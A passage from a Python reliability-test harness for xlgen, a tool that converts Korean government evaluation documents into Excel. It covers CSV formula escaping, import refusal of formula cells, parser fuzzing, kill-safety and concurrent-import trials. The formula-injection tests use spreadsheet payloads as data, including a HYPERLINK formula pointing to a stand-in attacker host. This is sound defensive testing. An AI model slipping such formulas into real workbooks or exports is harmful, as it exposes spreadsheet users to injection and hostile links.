            escaped = 0
            if problem is None:
                # the CSV is for Excel (issue 13): a BOM, then Korean column headers
                reader = csv.DictReader(io.StringIO(run.out.removeprefix("\ufeff")))
                for row in reader:
                    for col, value in row.items():
                        if col in CSV_NUMBER_COLUMNS:
                            continue  # numbers: "-231" is a number, not text
                        if value.startswith(FORMULA_PREFIXES):
                            problem = f"{col} {value!r} not escaped"
                        elif value.startswith("'") and value[1:] in hostile:
                            escaped += 1
                if escaped == 0:
                    problem = problem or "no escaped field found"
            totals["fields"] += escaped
            csv_row.add(
                "every such field escaped as '=…, '+…, '-…, '@…" if not problem else "FAILED",
                failure=problem and f"{key}: {problem}",
                seconds=run.seconds,
                rss_mb=run.rss_mb,
            )

        # Notes typed by staff in the whole workbook of the 2019 store: "=..." as a text cell,
        # a real formula, and 실적 "=1+1", next to one ordinary change: all refused together.
        store = bench.store_copy(folder / "notes")
        chosen = rng.sample(bench.records, 6)
        eq_text, eq_formula, eq_actual, plain = (c[0] for c in chosen[:4])
        book = folder / "notes" / "eq.xlsx"
        edit_workbook(
            bench.workbook,
            book,
            note={eq_text: rng.choice(PAYLOADS["="])},
            note_formula={
                eq_formula: rng.choice(["=1+1", '=HYPERLINK("http://evil.example","x")'])
            },
            actual={eq_actual: "=1+1", plain: (chosen[3][1] or 0) + 1},
        )
        before = store_fingerprint(store)
        run = run_xlgen(["import", str(book)], db=store)
        problem = unexpected(run)
        if problem is None and run.code != 1:
            problem = f"accepted (exit {run.code})"
        elif problem is None and "(문제 3건," not in run.err:
            problem = "not every formula cell was named: " + run.err[:300]
        unchanged = store_fingerprint(store)[0] == before[0]
        note_eq.store_checked(unchanged, lost=not unchanged)
        note_eq.add(
            "refused cleanly (exit 1), each cell named, store unchanged"
            if not problem and unchanged
            else "FAILED",
            failure=problem or (None if unchanged else "the store changed"),
            seconds=run.seconds,
            rss_mb=run.rss_mb,
        )
        others = {
            chosen[4][0]: rng.choice(["+1+1", "+A1"]),
            chosen[5][0]: rng.choice(["-2", "-A1*2"]),
            chosen[0][0]: rng.choice(["@SUM(1)", "@A1"]),
        }
        book = folder / "notes" / "other.xlsx"
        edit_workbook(bench.workbook, book, note=others)
        run = run_xlgen(["import", str(book)], db=store)
        problem = unexpected(run) or (
            None if run.code == 0 else f"import exit {run.code}: {run.err[:200]}"
        )
        if problem is None:
            from xlgen.store import Store

            with Store.open(store) as s:
                stored = {i.key: i.note for _, _, _, i in s.load(KEY).indicator_rows()}
            wrong = {k: stored.get(k) for k, v in others.items() if stored.get(k) != v}
            if wrong:
                problem = f"stored notes differ: {wrong}"
        if problem is None:
            run2 = run_xlgen(["build", KEY, "--out", str(folder / "notes-out")], db=store)
            problem = unexpected(run2) or (None if run2.code == 0 else f"rebuild exit {run2.code}")
            if problem is None:
                rebuilt = Path(run2.out.strip().splitlines()[-1])
                _, problems = scan_workbook(rebuilt, set(others.values()))
                problems += note_cells_are_text(rebuilt, others)
                if problems:
                    problem = "; ".join(problems[:3])
        note_other.add(
            "applied; stored as text; next build writes text cells" if not problem else "FAILED",
            failure=problem,
            seconds=run.seconds,
            rss_mb=run.rss_mb,
        )
        shutil.rmtree(folder, ignore_errors=True)
    docs_row.notes.insert(
        0, f"{totals['cells']} cells holding such names checked in {totals['books']} workbooks"
    )
    csv_row.notes.append(f"{totals['fields']} escaped fields checked")
    for row in (docs_row, csv_row, note_eq, note_other):
        row.elapsed = time.monotonic() - started
    return [docs_row, csv_row, note_eq, note_other]


# =========================================================================== 3. parsers

MUTATIONS = (
    "delete",
    "duplicate",
    "swap",
    "digits",
    "space_on",
    "space_off",
    "marker_move",
    "marker_copy",
    "heading_move",
    "join",
    "split",
    "tabs",
    "truncate",
    "block_move",
    "blank",
)
_MARKER = re.compile(r"^\s*(▢|□|◇|◦|○|※)")
_HEADING = re.compile(r"^\s*(Ⅰ|Ⅱ|Ⅲ|I{1,3}\.|\d+\.\s|가\.|나\.|다\.|전략목표명|주요사업명|실국명)")


def corrupt_digits(text: str, salt: int) -> str:
    out = []
    for k, ch in enumerate(text):
        r = (salt * 31 + k * 17) % 11
        if ch.isdigit() and r < 4:
            out.append("0123456789△-,.%"[(salt + k) % 15])
        elif ch.isdigit() and r == 4:
            continue
        elif ch.isdigit() and r == 5:
            out.append(ch + str(salt % 10) * (1 + salt % 3))
        else:
            out.append(ch)
    return "".join(out)


def mutate(lines: list[str], edits: Iterable[tuple[str, int, int, int]]) -> list[str]:
    """Apply edits (operation, i, j, salt) to document lines: what a bad extraction does."""
    lines = list(lines)
    for op, i, j, salt in edits:
        if not lines:
            lines = [""]
        i, j = i % len(lines), j % len(lines)
        if op == "delete":
            del lines[i : i + 1 + salt % 20]
        elif op == "duplicate":
            lines[i:i] = lines[i : i + 1 + salt % 10]
        elif op == "swap":
            lines[i], lines[j] = lines[j], lines[i]
        elif op == "digits":
            lines[i] = corrupt_digits(lines[i], salt)
        elif op == "space_on":  # a page starts with one leading space
            lines[i] = " " + lines[i]
        elif op == "space_off":
            lines[i] = lines[i][1:] if lines[i].startswith(" ") else lines[i]
        elif op in ("marker_move", "marker_copy", "heading_move"):
            pattern = _HEADING if op == "heading_move" else _MARKER
            marks = [k for k, t in enumerate(lines) if pattern.match(t)]
            if marks:
                k = marks[salt % len(marks)]
                text = lines[k]
                if op != "marker_copy":
                    del lines[k]
                lines.insert(j % (len(lines) + 1), (" " if salt % 2 else "") + text.lstrip(" "))
        elif op == "join" and i + 1 < len(lines):
            lines[i : i + 2] = [
                lines[i] + ("\t" if salt % 3 == 0 else " " * (salt % 3)) + lines[i + 1]
            ]
        elif op == "split" and lines[i]:
            cut = salt % len(lines[i])
            lines[i : i + 1] = [lines[i][:cut], lines[i][cut:]]
        elif op == "tabs":
            lines[i] = (
                lines[i].replace("\t", "  ") if "\t" in lines[i] else lines[i].replace("  ", "\t")
            )
        elif op == "truncate":
            del lines[max(1, i) :]
        elif op == "block_move":
            block = lines[i : i + 1 + salt % 40]
            del lines[i : i + 1 + salt % 40]
            k = j % (len(lines) + 1)
            lines[k:k] = block
        elif op == "blank":
            lines.insert(i, "" if salt % 2 else " ")
    return lines


class Hang(BaseException):
    """Raised by SIGALRM when one document takes longer than PARSE_TIME_BOUND."""


def _seed_material() -> dict[str, tuple[list[str], dict]]:
    import tomllib

    from xlgen.textio import read_document

    out = {}
    for kind, path in (("evaluation", EVAL_SEED), ("plan", PLAN_SEED)):
        with open(path.parent / "corrections.toml", "rb") as fh:
            corrections = tomllib.load(fh)
        out[kind] = (read_document(path).lines, corrections)
    return out


def classify_parse(
    lines: list[str], corrections: dict | None, name: str
) -> tuple[str, str | None, float]:
    """Parse through the dispatcher with the per-document timer: (outcome, failure, seconds)."""
    from xlgen.errors import XlgenError
    from xlgen.model import Evaluation
    from xlgen.parse import parse_text
    from xlgen.textio import TextDocument

    doc = TextDocument(path=Path(name), text="\n".join(lines), encoding="utf-8", newline="LF")
    start = time.perf_counter()
    signal.setitimer(signal.ITIMER_REAL, PARSE_TIME_BOUND)
    try:
        parsed = parse_text(doc, corrections=corrections)
    except Hang:
        return "hang", f"no result within {PARSE_TIME_BOUND:.0f} s", time.perf_counter() - start
    except MemoryError:
        return "memory ceiling", "MemoryError", time.perf_counter() - start
    except XlgenError as exc:
        seconds = time.perf_counter() - start
        if not HANGUL.search(str(exc)):
            return "error without a Korean message", f"{type(exc).__name__}: {exc}", seconds
        return "clean xlgen error", None, seconds
    except Exception as exc:  # noqa: BLE001 - that is what is being counted
        import traceback

        where = traceback.extract_tb(exc.__traceback__)[-1]
        return (
            "traceback",
            f"{type(exc).__name__}: {exc} at {Path(where.filename).name}:{where.lineno}",
            time.perf_counter() - start,
        )
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
    seconds = time.perf_counter() - start
    n = len(doc.lines)
    for w in parsed.warnings:
        if not w.message or (w.line is not None and not 1 <= w.line <= n):
            return (
                "malformed result",
                f"warning line {w.line} outside 1..{n}: {w.message!r}",
                seconds,
            )
    records = len(parsed.indicator_rows())
    if isinstance(parsed, Evaluation):
        for d in parsed.departments():
            if any(not p.indicators for p in d.projects):
                return "malformed result", f"a project without indicators in {d.name}", seconds
    return ("records + warnings" if records else "no records, warnings only"), None, seconds


def _child_parser_fuzz(examples: int, seed: int, workdir: Path) -> dict[str, Any]:
    """The child side: Hypothesis generates mutations of both seeds and of the dispatcher's
    input; every document is classified, nothing is raised."""
    from hypothesis import HealthCheck, Phase, given, settings
    from hypothesis import seed as hseed
    from hypothesis import strategies as st

    def alarm(signum, frame):
        raise Hang()

    signal.signal(signal.SIGALRM, alarm)
    material = _seed_material()
    counts: Counter = Counter()
    failures: list[str] = []
    slowest = [0.0]
    edit = st.tuples(
        st.sampled_from(MUTATIONS),
        st.integers(0, 10**6),
        st.integers(0, 10**6),
        st.integers(0, 999),
    )
    current = workdir / "current.txt"

    @hseed(seed)
    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(
        st.sampled_from(sorted(material)), st.lists(edit, min_size=1, max_size=30), st.booleans()
    )
    def fuzz(kind: str, edits: list, with_corrections: bool) -> None:
        lines, corrections = material[kind]
        mutated = mutate(lines, edits)
        current.write_text("\n".join(mutated), encoding="utf-8")
        outcome, failure, seconds = classify_parse(
            mutated, corrections if with_corrections else None, f"{kind}-mutant.txt"
        )
        counts[f"{kind}: {outcome}"] += 1
        slowest[0] = max(slowest[0], seconds)
        if failure:
            saved = workdir / f"failure-{len(failures):03d}.txt"
            shutil.copyfile(current, saved)
            failures.append(
                f"{kind} {outcome}: {failure} (document: {saved.name}, edits {edits[:6]}…)"
            )

    fuzz()
    current.unlink(missing_ok=True)
    with open("/proc/self/status") as fh:  # VmHWM: this program's own peak
        rss = next((int(line.split()[1]) / 1024 for line in fh if line.startswith("VmHWM:")), 0.0)
    return {
        "counts": dict(counts),
        "failures": failures,
        "max_seconds": slowest[0],
        "max_rss_mb": rss,
    }


def parser_fuzz_trial(examples: int, seed: int, workdir: Path) -> TrialResult:
    """Run the Hypothesis fuzz in a child under the memory ceiling; a child that dies or
    stops answering counts as a hang/crash (its current document is kept in workdir)."""
    workdir.mkdir(parents=True, exist_ok=True)
    out = workdir / "fuzz.json"
    out.unlink(missing_ok=True)
    result = TrialResult(
        "3 parsers",
        "Hypothesis mutations of seeds/2019 and seeds/plan-seogu "
        "(lines deleted/duplicated/swapped/joined/split, digits corrupted, page-start "
        "spaces, ▢ markers and headings moved, truncation) → parse_text",
    )
    started = time.monotonic()
    proc = subprocess.Popen(
        [
            sys.executable,
            str(Path(__file__).resolve()),
            "parser-fuzz",
            str(examples),
            str(seed),
            str(workdir),
            str(out),
            str(MEMORY_CEILING),
        ],
        env=child_env(),
        cwd=str(workdir),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        _, err = proc.communicate(timeout=120 + examples * 0.5)
    except subprocess.TimeoutExpired:
        proc.kill()
        _, err = proc.communicate()
        current = workdir / "current.txt"
        result.add("hang", failure=f"the fuzz child stopped answering; last document: {current}")
        return result
    if proc.returncode != 0 or not out.exists():
        result.add("crash", failure=f"fuzz child exit {proc.returncode}: {err.decode()[-500:]}")
        return result
    data = json.loads(out.read_text(encoding="utf-8"))
    for outcome, n in data["counts"].items():
        result.outcomes[outcome] += n
        result.runs += n
    result.failures.extend(data["failures"])
    result.max_seconds = data["max_seconds"]
    result.max_rss_mb = data["max_rss_mb"]
    result.elapsed = time.monotonic() - started
    return result


def _random_document_bytes(rng: random.Random, kind: str, folder: Path, n: int) -> Path:
    path = folder / f"random-{n}.txt"
    seed_bytes = rng.choice([EVAL_SEED, PLAN_SEED]).read_bytes()
    if kind == "random bytes":
        data = rng.randbytes(rng.randint(1, 65536))
    elif kind == "random bytes after a UTF-8 BOM":
        data = b"\xef\xbb\xbf" + rng.randbytes(rng.randint(0, 8192))
    elif kind == "random bytes after a UTF-16 BOM":
        data = rng.choice([b"\xff\xfe", b"\xfe\xff"]) + rng.randbytes(rng.randint(0, 8192))
    elif kind == "random Hangul/ASCII text":
        alphabet = "가나다라마바사아자차카타파하국과계▢Ⅲ. 0123456789%△-\n\t"
        data = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 20000))).encode("utf-8")
    elif kind == "seed with random bytes changed":
        data = bytearray(seed_bytes)
        for _ in range(rng.randint(1, 200)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        data = bytes(data)
    elif kind == "seed with ASCII bytes changed":
        data = bytearray(seed_bytes)
        ascii_at = [k for k, b in enumerate(data) if b < 128]
        for _ in range(rng.randint(1, 300)):
            data[rng.choice(ascii_at)] = rng.choice(b" \t\n\r0123456789-.,%()")
        data = bytes(data)
    elif kind == "seed as CP949 with bytes changed":
        data = bytearray(seed_bytes.decode("utf-8").encode("cp949", "replace"))
        for _ in range(rng.choice([0, rng.randint(1, 20)])):
            data[rng.randrange(len(data))] = rng.randrange(256)
        data = bytes(data)
    elif kind == "seed as UTF-16, cut at an odd byte":
        data = seed_bytes.decode("utf-8").encode(rng.choice(["utf-16", "utf-16-le", "utf-16-be"]))
        data = data[: rng.randrange(1, len(data), 2)]
    elif kind == "NUL bytes inside the seed":
        data = bytearray(seed_bytes)
        for _ in range(rng.randint(1, 50)):
            data.insert(rng.randrange(len(data)), 0)
        data = bytes(data)
    elif kind == "empty file":
        data = b""
    else:  # "over 20 MB"
        with open(path, "wb") as fh:
            fh.truncate(rng.randint(21, 40) << 20)
        return path
    path.write_bytes(data)
    return path


CLI_BYTES_KINDS = [
    "random bytes",
    "random bytes after a UTF-8 BOM",
    "random bytes after a UTF-16 BOM",
    "random Hangul/ASCII text",
    "seed with random bytes changed",
    "seed with ASCII bytes changed",
    "seed as CP949 with bytes changed",
    "seed as UTF-16, cut at an odd byte",
    "NUL bytes inside the seed",
    "empty file",
    "over 20 MB",
]


def cli_bytes_trial(runs: int, rng: random.Random, workdir: Path, workers: int = 2) -> TrialResult:
    """`xlgen parse FILE` on random bytes: exit 0, or exit 1 with one Korean line."""
    workdir.mkdir(parents=True, exist_ok=True)
    result = TrialResult(
        "3 parsers", "`xlgen parse` on random-bytes files (" + ", ".join(CLI_BYTES_KINDS) + ")"
    )
    started = time.monotonic()
    jobs = []
    for n in range(runs):
        kind = CLI_BYTES_KINDS[n % len(CLI_BYTES_KINDS)]
        path = _random_document_bytes(rng, kind, workdir, n)
        jobs.append((kind, path, rng.choice(["table", "json", "csv"])))

    def one(job):
        kind, path, fmt = job
        return job, run_xlgen(["parse", str(path), "--format", fmt], timeout=30)

    with ThreadPoolExecutor(workers) as pool:
        for (kind, path, fmt), run in pool.map(one, jobs):
            problem = unexpected(run)
            if problem is None and run.code == 1 and len(run.err.strip().splitlines()) != 1:
                problem = f"exit 1 with {len(run.err.strip().splitlines())} lines: {run.err[:200]}"
            outcome = (
                "FAILED"
                if problem
                else ("parsed (exit 0)" if run.code == 0 else "refused: one Korean line (exit 1)")
            )
            result.add(
                outcome,
                failure=problem and f"{kind} ({path.name}, --format {fmt}): {problem}",
                seconds=run.seconds,
                rss_mb=run.rss_mb,
            )
            if not problem:
                path.unlink(missing_ok=True)
    result.elapsed = time.monotonic() - started
    return result


# =========================================================================== 4. crash safety


def workbook_complete(path: Path, records: int | None) -> str | None:
    """None when `path` is a complete xlgen workbook, else why not."""
    try:
        with zipfile.ZipFile(path) as zf:
            bad = zf.testzip()
            if bad:
                return f"CRC error in {bad}"
            names = set(zf.namelist())
            if not {"[Content_Types].xml", "xl/workbook.xml"} <= names:
                return "parts missing"
            if META_SHEET.encode() not in zf.read("xl/workbook.xml"):
                return "no _xlgen sheet"
    except (zipfile.BadZipFile, OSError) as exc:
        return f"not a zip ({exc})"
    if records is not None:
        from xlgen.importer import read_workbook

        try:
            wbi = read_workbook(path)
        except Exception as exc:  # noqa: BLE001
            return f"unreadable: {exc}"
        if len(wbi.built) != records:
            return f"{len(wbi.built)} records instead of {records}"
    return None


def build_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) -> TrialResult:
    """SIGKILL `xlgen build` at random moments; the output path must hold the previous
    complete workbook, a new complete one, or nothing (when there was nothing before)."""
    result = TrialResult(
        "4 crash safety",
        "`xlgen build` (whole, or --by-department: 38 files) "
        "killed with SIGKILL at a random moment",
    )
    started = time.monotonic()
    out = workdir / "out"
    if workdir.exists():
        shutil.rmtree(workdir)
    workdir.mkdir(parents=True)
    db = bench.store_copy(workdir / "store")
    empty_db = workdir / "empty" / "store.sqlite"
    # Measure an unkilled run of each mode first (and get the list of files).
    durations = {}
    for mode, args in (("whole", []), ("by-department", ["--by-department"])):
        run = run_xlgen(["build", KEY, "--out", str(out), *args], db=db)
        assert run.code == 0, run.err
        durations[mode] = run.seconds
    main = next((out / KEY).glob("*.xlsx"))
    dept_files = sorted((out / KEY / "부서별").glob("*.xlsx"))
    leftovers_total = 0
    files = Counter()
    for n in range(runs):
        mode = rng.choice(["whole", "by-department"])
        fresh_store = rng.random() < 0.25
        if rng.random() < 0.3:  # sometimes start with no previous output at all
            shutil.rmtree(out, ignore_errors=True)
        targets = [main] + (dept_files if mode == "by-department" else [])
        before = {p: (sha256(p) if p.exists() else None) for p in targets}
        store = db
        if fresh_store:
            empty_db.parent.mkdir(parents=True, exist_ok=True)
            for p in empty_db.parent.glob("store.sqlite*"):
                p.unlink()
            store = empty_db
        args = ["build", KEY, "--out", str(out)] + (
            ["--by-department"] if mode == "by-department" else []
        )
        delay = rng.uniform(0, durations[mode] * 1.1)
        child = Child(args, db=store)
        time.sleep(delay)
        child.kill()
        run = child.wait()
        killed = run.code == -signal.SIGKILL
        problems = []
        kinds = Counter()
        for p in targets:
            if not p.exists():
                if before[p] is not None:
                    problems.append(f"{p.name}: the previous workbook is gone")
                kinds["none"] += 1
                continue
            why = workbook_complete(p, RECORDS_2019 if p == main and rng.random() < 0.3 else None)
            if why:
                problems.append(f"{p.name}: broken workbook at the final path ({why})")
            kinds["previous" if sha256(p) == before[p] else "new"] += 1
        leftovers = [p for p in out.rglob(".xlgen-*.part")]
        leftovers_total += len(leftovers)
        for p in leftovers:
            p.unlink()
        if not killed and run.code != 0:
            problems.append(f"exit {run.code}: {run.err[:200]}")
        check = integrity(store)
        if check != "ok":
            problems.append(f"store integrity_check: {check}")
        result.store_checked(check == "ok" and not problems, lost=bool(problems))
        label = (
            ("killed" if killed else "finished before the kill")
            + (", empty store" if fresh_store else "")
            + f" ({mode})"
        )
        result.add(
            label if not problems else "FAILED",
            failure="; ".join(problems)
            and f"run {n} ({label}, {delay:.2f} s): " + "; ".join(problems[:3]),
            seconds=delay,
        )
        files.update(kinds)
        result.killed_writing += bool(leftovers)
    result.notes.append(
        f"files at the final paths after the runs: {files['previous']} previous complete, {files['new']} new "
        f"complete, {files['none']} absent (nothing before); leftover .xlgen-*.part temp files: "
        f"{leftovers_total} (never at a final path); {result.killed_writing} runs were killed while "
        "writing a workbook (their temp file was left)"
    )
    result.leftovers = leftovers_total
    result.elapsed = time.monotonic() - started
    return result


def _import_edits(
    bench: Bench, rng: random.Random, count: int, tag: str, keys: list[str] | None = None
) -> dict[str, tuple[Any, Any, str, str]]:
    """record key → (old actual, new actual, old note, new note)."""
    pool = {r[0]: r for r in bench.records}
    keys = keys or [r[0] for r in rng.sample(bench.records, count)]
    edits = {}
    for rk in keys:
        _, actual, note, unit = pool[rk]
        new = (actual if isinstance(actual, (int, float)) else 0) + rng.randint(1, 500)
        edits[rk] = (actual, new, note, f"{tag} {rng.randint(1, 10**6)}")
    return edits


def _write_edits(bench: Bench, edits: dict, dst: Path) -> None:
    edit_workbook(
        bench.workbook,
        dst,
        actual={k: v[1] for k, v in edits.items()},
        note={k: v[3] for k, v in edits.items()},
    )


def _values(db: Path) -> tuple[int, dict[str, tuple[Any, str]], int]:
    """(revision, record key → (actual, note), number of revisions) of the 2019 document."""
    from xlgen.store import Store

    with Store.open(db) as s:
        doc = s.load(KEY)
        return (
            s.revision(KEY),
            {i.key: (i.actual, i.note or "") for _, _, _, i in doc.indicator_rows()},
            len(s.history(KEY)),
        )


def import_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) -> TrialResult:
    """SIGKILL `xlgen import` at random moments: the store stays at its last committed
    revision (integrity ok, the import's values all old or all new)."""
    result = TrialResult(
        "4 crash safety", "`xlgen import` (40 values) killed with SIGKILL at a random moment"
    )
    started = time.monotonic()
    if workdir.exists():
        shutil.rmtree(workdir)
    workdir.mkdir(parents=True)
    edits = _import_edits(bench, rng, 20, "kill")
    book = workdir / "edited.xlsx"
    _write_edits(bench, edits, book)
    db = bench.store_copy(workdir / "store")
    run = run_xlgen(["import", str(book)], db=db)
    assert run.code == 0, run.err
    duration = run.seconds
    for n in range(runs):
        db = bench.store_copy(workdir / "store")
        # Half the kills land anywhere, half near the end where the transaction runs.
        delay = rng.uniform(0, duration) if n % 2 else rng.uniform(duration * 0.55, duration * 0.98)
        child = Child(["import", str(book)], db=db)
        time.sleep(delay)
        child.kill()
        run = child.wait()
        killed = run.code == -signal.SIGKILL
        problems = []
        wal = db.with_name(db.name + "-wal")
        frames = (
            killed and wal.exists() and wal.stat().st_size > 0
        )  # the kill hit a transaction's pages
        check = integrity(db)
        if check != "ok":
            problems.append(f"integrity_check: {check}")
        rev, values, revisions = _values(db)
        old = all(values[k] == (v[0], v[2]) for k, v in edits.items())
        new = all(values[k] == (v[1], v[3]) for k, v in edits.items())
        untouched = all(values[r[0]] == (r[1], r[2]) for r in bench.records if r[0] not in edits)
        if not untouched:
            problems.append("values outside the import changed")
        if rev == 1 and old and revisions == 1:
            state = "store at the old revision, all values old"
        elif rev == 2 and new and revisions == 2:
            state = "store at the new revision, all values new"
        else:
            problems.append(
                f"revision {rev} with {'all old' if old else 'all new' if new else 'MIXED'} values"
            )
            state = "FAILED"
        if frames and not problems:
            state += " (WAL frames left by the kill, recovered)"
        if not killed and run.code != 0:
            problems.append(f"exit {run.code}: {run.err[:200]}")
        result.store_checked(not problems, lost=bool(problems))
        label = ("killed: " if killed else "finished before the kill: ") + state
        result.add(
            label if not problems else "FAILED",
            failure="; ".join(problems)
            and f"run {n} (kill after {delay:.2f} s): " + "; ".join(problems),
            seconds=delay,
        )
    result.elapsed = time.monotonic() - started
    return result


# =========================================================================== 5. concurrency


START_DELAY = 1.2  # seconds for both children to import xlgen before they start together


def concurrent_import_trial(
    bench: Bench, runs: int, rng: random.Random, workdir: Path, overlap: bool
) -> TrialResult:
    """Two `xlgen import` processes on one store at the same moment, with two different
    edited workbooks of the same build (disjoint records, or one record edited in both to
    different values). Both apply in sequence, or one is refused cleanly; nothing is lost."""
    what = "one record edited in both to different values" if overlap else "disjoint records"
    result = TrialResult("5 concurrency", f"two `xlgen import` at the same moment ({what})")
    started = time.monotonic()
    if workdir.exists():
        shutil.rmtree(workdir)
    workdir.mkdir(parents=True)
    pairs = []
    for k in range(max(1, min(2, runs // 3))):
        keys = [r[0] for r in rng.sample(bench.records, 20)]
        a = _import_edits(bench, rng, 0, "가", keys[:10])
        b = _import_edits(bench, rng, 0, "나", keys[10:] if not overlap else keys[10:19] + keys[:1])
        pa, pb = workdir / f"a{k}.xlsx", workdir / f"b{k}.xlsx"
        _write_edits(bench, a, pa)
        _write_edits(bench, b, pb)
        pairs.append(((a, pa), (b, pb)))
    for n in range(runs):
        (a, pa), (b, pb) = pairs[n % len(pairs)]
        db = bench.store_copy(workdir / "store")
        at = time.time() + START_DELAY
        jitter = rng.choice([0.0, 0.0, rng.uniform(0, 0.05), rng.uniform(0, 0.3)])
        children = [
            Child(["import", str(pa)], db=db, start_at=at),
            Child(["import", str(pb)], db=db, start_at=at + jitter),
        ]
        runs_ = [c.wait() for c in children]
        problems = [
            f"{name}: {p}" for name, r in zip("AB", runs_, strict=True) if (p := unexpected(r))
        ]
        applied = [r.code == 0 for r in runs_]
        for name, r in zip("AB", runs_, strict=True):
            if r.code == 1 and not re.search("그사이 바뀌었|바뀌었는데|다시 가져오", r.err):
                problems.append(f"{name} refused for another reason: {r.err.strip()[:200]}")
        check = integrity(db)
        if check != "ok":
            problems.append(f"integrity_check: {check}")
        rev, values, revisions = _values(db)
        lost = False
        if rev != 1 + sum(applied) or revisions != rev:
            problems.append(
                f"revision {rev} / {revisions} revisions after {sum(applied)} applied imports"
            )
            lost = True
        shared = set(a) & set(b)
        for edits, ok, name in ((a, applied[0], "A"), (b, applied[1], "B")):
            for rk, (o_act, n_act, o_note, n_note) in edits.items():
                if rk in shared and all(applied):
                    continue
                want = (n_act, n_note) if ok else (o_act, o_note)
                if rk in shared and not ok:
                    continue  # the other one's value
                if values[rk] != want:
                    problems.append(f"{name} {rk}: {values[rk]} instead of {want} (lost update)")
                    lost = True
        if shared and all(applied):
            problems.append(
                "both imports applied although they edited the same record: lost update"
            )
            lost = True
        if not any(applied) and not problems:
            problems.append("both imports refused: nothing applied")
        result.store_checked(check == "ok" and not lost, lost=lost)
        if problems:
            outcome = "FAILED"
        elif all(applied):
            outcome = "both applied in sequence"
        else:
            refused = runs_[applied.index(False)]
            outcome = (
                "one applied, the other refused: document changed meanwhile"
                if "그사이 바뀌었" in refused.err
                else "one applied, the other refused: conflict on the value"
            )
        result.add(
            outcome,
            failure="; ".join(problems[:4])
            and f"run {n} (jitter {jitter:.3f} s): " + "; ".join(problems[:4]),
            seconds=max(r.seconds for r in runs_) - START_DELAY,
            rss_mb=max(r.rss_mb for r in runs_),
        )
    result.elapsed = time.monotonic() - started
    return result


# =========================================================================== the report


def markdown_table(results: list[TrialResult]) -> str:
    lines = [
        "| # | Area | Hostile input or fault | Runs | Outcome (how often) | Store/output intact | "
        "Lost or corrupted | Max time | Max memory |",
        "|---|---|---|---:|---|---|---:|---:|---:|",
    ]
    for k, r in enumerate(results, 1):
        outcome = "<br>".join(f"{n}× {o}" for o, n in r.outcomes.most_common())
        intact = f"{r.intact}/{r.checked}" if r.checked else "n/a"
        t = f"{r.max_seconds:.2f} s" if r.max_seconds else "–"
        m = f"{r.max_rss_mb:.0f} MB" if r.max_rss_mb else "–"
        name = r.name.replace("|", "\\|")
        lines.append(
            f"| {k} | {r.area} | {name} | {r.runs} | {outcome.replace('|', '/')} | {intact} | "
            f"{r.lost} | {t} | {m} |"
        )
    return "\n".join(lines)


# =========================================================================== child entry

if __name__ == "__main__":
    if len(sys.argv) >= 2 and sys.argv[1] == "parser-fuzz":
        import resource

        examples, seed, workdir, out, limit = sys.argv[2:7]
        if int(limit) > 0:
            resource.setrlimit(resource.RLIMIT_AS, (int(limit), int(limit)))
        report = _child_parser_fuzz(int(examples), int(seed), Path(workdir))
        Path(out).write_text(json.dumps(report, ensure_ascii=False), encoding="utf-8")
    else:
        sys.exit("usage: reliability_trials.py parser-fuzz EXAMPLES SEED WORKDIR OUT MEMORY")
